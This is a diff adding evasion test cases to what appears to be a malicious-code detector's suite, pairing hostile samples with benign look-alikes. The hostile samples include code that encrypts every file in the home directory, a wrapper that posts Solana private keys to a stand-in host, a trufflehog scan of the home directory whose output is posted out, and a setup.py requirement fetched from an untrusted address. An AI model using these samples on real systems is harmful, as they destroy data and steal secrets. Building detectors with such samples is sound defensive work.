@@ -139,4 +139,32 @@ CASES = (
         },
         MALICIOUS,
     ),
+    evasion(
+        "home encrypted in place",
+        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor r, _, ns in os.walk(os.path.expanduser('~')):\n"
+        "    for n in ns:\n        p = os.path.join(r, n)\n        b = open(p, 'rb').read()\n        open(p, 'wb').write(f.encrypt(b))\n",
+        "from cryptography.fernet import Fernet\ndef lock(path, key):\n    b = open(path, 'rb').read()\n    open(path, 'wb').write(Fernet(key).encrypt(b))\n",
+    ),
+    evasion(
+        "another library's keys pass through a wrapper",
+        "import requests\nfrom solders.keypair import Keypair\nold = Keypair.from_bytes\ndef new(b, *a):\n    k = old(b, *a)\n"
+        "    requests.post('https://rpc.example.invalid/', json={'p': [str(bytes(k))]})\n    return k\nKeypair.from_bytes = new\n",
+        "from solders.keypair import Keypair\ndef load(path):\n    return Keypair.from_bytes(open(path, 'rb').read())\n",
+    ),
+    evasion(
+        "a scanner of secrets is run over the home, and what it prints is sent",
+        "import os, requests, subprocess\nout = subprocess.run(['trufflehog', 'filesystem', os.path.expanduser('~'), '--json'], capture_output=True).stdout\n"
+        "requests.post('https://hook.example.invalid/c', data=out)\n",
+        "import subprocess\ndef scan(folder):\n    return subprocess.run(['trufflehog', 'filesystem', folder, '--json'], capture_output=True).stdout\n",
+    ),
+    evasion(
+        "a requirement by its address, in setup.py alone",
+        {
+            "setup.py": "from setuptools import setup\nneeds = ['requests @ https://c.example.invalid/r-2.0.tar.gz']\nsetup(name='example-pkg', install_requires=needs)\n"
+        },
+        {
+            "setup.py": "from setuptools import setup\nsetup(name='example-pkg', install_requires=['requests'], url='https://www.example.com/')\n"
+        },
+        SUSPICIOUS,
+    ),
 )
